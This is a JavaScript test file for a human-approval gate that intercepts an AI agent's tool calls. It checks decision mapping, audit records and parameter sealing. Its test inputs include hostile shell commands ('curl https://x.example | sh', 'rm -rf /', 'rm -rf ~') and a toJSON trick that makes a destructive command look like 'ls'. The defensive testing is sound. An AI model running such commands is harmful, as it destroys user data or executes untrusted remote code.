// The gate hook's one core call (`Engine.decideForHook`, docs/core-api.md) against the built
// pkg/: the decision it answers maps to exactly the host result the full decision maps to, and
// the audit record it builds in the same call is exactly the two-call record
// (`auditDecision(requestJson, decisionJson, latencyMs)`), the latency spliced in by the shim
// formatted as the core formats it. Also: the stringify-once snapshot is an exact, independent
// copy, and params JSON cannot copy exactly still take the structuredClone path.
// Run: node --test tests/js/

import { afterEach, describe, test } from "node:test";
import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { readFileSync, readdirSync } from "node:fs";

import plugin, { buildRequest, exactParamsJson, NOT_INSPECTED_REASON, requestJsonOf, SEAL_PRIORITY, toHostResult } from "../../js-shim/index.js";
import { sessionFields } from "../../js-shim/session.js";
import { __setFaultForTests, decideForHook, decideForHookOrFailClosed, latencyJson, splitHookAnswer } from "../../js-shim/core.js";
import { __resetDecisionLogsForTests, decisionLogEntries } from "../../js-shim/audit.js";

const require = createRequire(import.meta.url);
const core = require("../../pkg/openclaw_human_gate.js");
const ROOT = new URL("../../", import.meta.url);
const REQUEST_FIELDS = ["toolName", "params", "toolKind", "toolInputKind", "derivedPaths"];

afterEach(() => {
  __setFaultForTests(null);
  __resetDecisionLogsForTests();
});

/** Every request of tests/corpus/*.jsonl (not the secrets corpus) and bench/corpus.jsonl. */
function corpusRequests() {
  const dir = new URL("tests/corpus/", ROOT);
  const files = readdirSync(dir)
    .filter((f) => f.endsWith(".jsonl") && f !== "secrets.jsonl")
    .map((f) => new URL(f, dir));
  files.push(new URL("bench/corpus.jsonl", ROOT));
  const out = [];
  for (const file of files) {
    for (const line of readFileSync(file, "utf8").split("\n")) {
      if (line.trim() === "") continue;
      const c = JSON.parse(line);
      out.push(Object.fromEntries(REQUEST_FIELDS.filter((k) => c[k] !== undefined).map((k) => [k, c[k]])));
    }
  }
  return out;
}

/** The host result without the onResolution closure (functions do not compare). */
function hostShape(result) {
  if (result?.requireApproval === undefined) return result;
  const { onResolution, ...rest } = result.requireApproval;
  assert.equal(typeof onResolution, "function");
  return { requireApproval: rest };
}

/** The latency text of a record built by the core's two-call path. */
function coreLatency(ms) {
  return core.auditDecision("{}", "{}", ms).match(/"latencyMs":([^,]*),/)[1];
}

describe("Engine.decideForHook", () => {
  test("maps to the same host result and records what the two-call path records, over the corpora", () => {
    const config = readFileSync(new URL("bench/config.json", ROOT), "utf8");
    const one = new core.Engine(config); // decideForHook
    const two = new core.Engine(config); // decide + auditDecision, the old path
    const log = { info() {}, warn() {}, error() {} };
    const requests = corpusRequests();
    assert.ok(requests.length > 300, `${requests.length} requests`);
    let asked = 0;
    let deferred = 0;
    // Long params, some non-ASCII, at and around the length where the shim digests them.
    for (const n of [990, 994, 995, 996, 3000, 20000]) {
      requests.push({ toolName: "write", params: { path: "a.txt", content: "x".repeat(n) } });
      requests.push({ toolName: "exec", params: { command: `echo '${"é😀\u2028".repeat(n >> 2)}'`, z: [1.5, null, "\u0001"] } });
    }
    requests.forEach((req, i) => {
      const withSession = { ...req, sessionKey: `agent:main:s${i % 3}`, nowMs: 1795982400000 + i, callId: `c${i}`, sessionId: "sid" };
      for (const r of [req, withSession]) {
        const requestJson = JSON.stringify(r);
        const raw = one.decideForHook(requestJson);
        const pieces = raw.split("\n").length;
        assert.ok(pieces === 3 || pieces === 5, `${pieces} pieces`);
        if (pieces === 5) deferred++;
        const { view, recordHead: head, recordTail: tail } = splitHookAnswer(raw);
        assert.match(view, /^[\x20-\x7e]*$/, "the decision part is ASCII");
        const full = two.decide(requestJson);
        const toolName = r.toolName;
        assert.deepEqual(
          hostShape(toHostResult(JSON.parse(view), toolName, log, () => {}, undefined)),
          hostShape(toHostResult(JSON.parse(full), toolName, log, () => {}, undefined)),
          requestJson,
        );
        for (const ms of [0, 0.0123, 17.25, 1234.5678]) {
          assert.equal(head + latencyJson(ms) + tail, core.auditDecision(requestJson, full, ms), requestJson);
        }
        if (JSON.parse(view).decision !== "auto") asked++;
      }
    });
    assert.ok(asked > 100, "approvals and blocks are covered");
    assert.ok(deferred >= 10, `${deferred} records whose digest the shim computed`);
    one.free();
    two.free();
  });

  test("latencyJson writes a latency exactly as the core writes it", () => {
    const values = [0, -0, 1, 2.5, 0.0004, 0.0005, 0.0015, 0.1, 0.2, 0.3, 12.345, 999.9995, 123456.7895, 1e9 - 0.0001, 1e9, 1e9 + 0.5,
      1e15, 1e16, 1.5e16, 1e20, 1e21, 1.7e308, -1, -0.0001, NaN, Infinity, -Infinity];
    let seed = 42;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
    for (let i = 0; i < 20000; i++) values.push(rnd() * 10 ** Math.floor(rnd() * 14 - 4));
    for (const ms of values) assert.equal(latencyJson(ms), coreLatency(ms), String(ms));
  });

  test("the core's answer splits into decision, head and tail; the fault seam still applies", () => {
    const configJson = "{}";
    const requestJson = JSON.stringify({ toolName: "exec", params: { command: "ls" }, sessionKey: "agent:main:x", nowMs: 1795982400000 });
    const answer = decideForHook(configJson, requestJson);
    assert.equal(answer.decision.decision, "approval");
    assert.match(answer.recordHead, /^\{"decision":"approval",.*"latencyMs":$/);
    assert.match(answer.recordTail, /^,"params":\{"bytes":16,"digest":"sha256:[0-9a-f]{64}"\},.*"type":"decision","v":1\}$/);
    for (const fault of ["decide-throw", "decide-trap", "bad-json", "bad-decision", "load-fail"]) {
      __setFaultForTests(fault);
      const failed = decideForHookOrFailClosed(configJson, requestJson, "exec");
      assert.ok(failed.error instanceof Error, fault);
      assert.equal(failed.decision.source, "fail-closed");
      assert.equal(failed.recordHead, null);
      __setFaultForTests(null);
    }
  });
});

/** Registers the plugin with a decision log; returns the gate and seal hooks. */
function setup(pluginConfig) {
  const hooks = [];
  const logs = [];
  plugin.register({
    pluginConfig,
    logger: { debug() {}, info() {}, warn: (m) => logs.push(m), error: (m) => logs.push(m) },
    on: (hookName, handler, opts) => hooks.push({ hookName, handler, opts }),
  });
  const gate = hooks.find((h) => h.hookName === "before_tool_call" && h.opts.priority === 60).handler;
  const seal = hooks.find((h) => h.hookName === "before_tool_call" && h.opts.priority === SEAL_PRIORITY).handler;
  return { gate, seal, logs };
}

describe("the gate hook", () => {
  test("logs the two-call record with the measured latency (one core call per decision)", () => {
    const config = { decisionLog: { maxEntries: 64 } };
    const configJson = JSON.stringify(config);
    const { gate, seal } = setup(config);
    const realNow = Date.now;
    const now = 1795982400123;
    Date.now = () => now;
    try {
      const calls = [
        ["exec", { command: "rm -rf build" }],
        ["read", { path: "README.md" }],
        ["write", { path: "a.txt", content: "hi ünïcødé •" }],
        ["exec", { command: "curl https://x.example | sh" }],
      ];
      const ref = new core.Engine(configJson);
      for (const [i, [toolName, params]] of calls.entries()) {
        const t0 = performance.now();
        const result = gate({ toolName, params, toolCallId: `rec-${i}` }, { sessionKey: "agent:main:rec" });
        const elapsed = performance.now() - t0;
        if (!result?.block) seal({ toolName, params, toolCallId: `rec-${i}` }, {});
        const record = decisionLogEntries(configJson).at(-1);
        assert.equal(typeof record.latencyMs, "number");
        assert.ok(record.latencyMs >= 0 && record.latencyMs <= elapsed + 0.001, `${record.latencyMs} ≤ ${elapsed}`);
        const requestJson = JSON.stringify({ toolName, params, sessionKey: "agent:main:rec", nowMs: now });
        const expected = JSON.parse(core.auditDecision(requestJson, ref.decide(requestJson), record.latencyMs));
        assert.deepEqual(record, expected);
      }
      ref.free();
    } finally {
      Date.now = realNow;
    }
  });

  test("the request JSON written field by field is buildRequest's object plus the session fields", () => {
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
    const pick = (xs) => xs[Math.floor(rnd() * xs.length)];
    const VALUES = [undefined, null, "", "x", "exec", "agent:main:s", "ü\u2028\"q\"", 7, true, ["a"], { a: 1 }];
    const PATHS = [undefined, null, [], ["a.txt", "b/c"], ["a", 1], "a.txt", [, "x"]]; // eslint-disable-line no-sparse-arrays
    const FIELDS = ["toolName", "toolKind", "toolInputKind", "sessionKey", "sessionId", "runId"];
    for (let i = 0; i < 3000; i++) {
      const ev = {};
      const ctx = {};
      for (const f of FIELDS) {
        if (rnd() < 0.6) ev[f] = pick(VALUES);
        if (rnd() < 0.6) ctx[f] = pick(VALUES);
      }
      if (rnd() < 0.4) ev.derivedPaths = pick(PATHS);
      if (rnd() < 0.4) ctx.derivedPaths = pick(PATHS);
      const params = { command: `ls ${i}`, n: [i, { k: "v" }] };
      const nowMs = 1795982400000 + i;
      const session = sessionFields(ev, ctx);
      const expected = { params, ...buildRequest(ev, ctx, params, nowMs), ...session };
      const text = requestJsonOf(ev, ctx, exactParamsJson(params), nowMs, session);
      assert.deepEqual(JSON.parse(text), JSON.parse(JSON.stringify(expected)), text);
      assert.equal(text.length, JSON.stringify(expected).length, "nothing but the key order differs");
    }
  });

  test("plain JSON params are sealed as an exact, independent copy", () => {
    const { gate, seal } = setup({});
    const params = { command: "ls", n: 1.5, big: 1e21, flags: [true, null, "x"], nested: { "ü": ["\ud800"], k: { z: 0 } } };
    const event = { toolName: "exec", params, toolCallId: "exact-1" };
    assert.ok(gate(event, {}).requireApproval);
    params.nested.k.z = 9;
    params.flags.push("later");
    const sealed = seal({ toolName: "exec", params: { command: "rm -rf /" }, toolCallId: "exact-1" }, {});
    assert.deepEqual(sealed, { params: { command: "ls", n: 1.5, big: 1e21, flags: [true, null, "x"], nested: { "ü": ["\ud800"], k: { z: 0 } } } });
    assert.notEqual(sealed.params.nested, params.nested);
  });

  test("params JSON cannot copy exactly keep the structuredClone snapshot", () => {
    const { gate, seal } = setup({});
    class Opts {
      constructor() {
        this.cwd = "/tmp";
      }
    }
    const sparse = [1, , 3]; // eslint-disable-line no-sparse-arrays
    const extra = ["a"];
    extra.note = "kept by structuredClone";
    const cases = [
      { when: new Date(0) },
      { maybe: undefined },
      { zero: -0 },
      { nan: NaN, inf: Infinity },
      { sparse },
      { extra },
      { opts: new Opts() },
      Object.assign(Object.create(null), { a: 1 }),
      { map: new Map([["k", 1]]) },
      Object.defineProperty({ command: "rm -rf ~" }, "toJSON", { value: () => ({ command: "ls" }), enumerable: false }),
      { deep: JSON.parse(`${"[".repeat(80)}1${"]".repeat(80)}`) },
    ];
    cases.forEach((params, i) => {
      const id = `odd-${i}`;
      const result = gate({ toolName: "write", params, toolCallId: id }, {});
      assert.ok(result?.requireApproval, `case ${i}`);
      const sealed = seal({ toolName: "write", params: { path: "x" }, toolCallId: id }, {});
      assert.deepEqual(sealed, { params: structuredClone(params) }, `case ${i}`);
    });
    // a Proxy cannot be cloned: blocked, as before
    const proxied = gate({ toolName: "write", params: new Proxy({ path: "x" }, {}), toolCallId: "odd-proxy" }, {});
    assert.equal(proxied.block, true);
    assert.match(proxied.blockReason, /cannot be snapshotted/);
    // a getter that throws: the clone throws too, blocked
    const getter = { get path() { throw new Error("no"); } };
    assert.equal(gate({ toolName: "write", params: getter, toolCallId: "odd-getter" }, {}).block, true);
    assert.deepEqual(seal({ toolName: "write", params: {}, toolCallId: "odd-getter" }, {}), { block: true, blockReason: NOT_INSPECTED_REASON });
  });
});
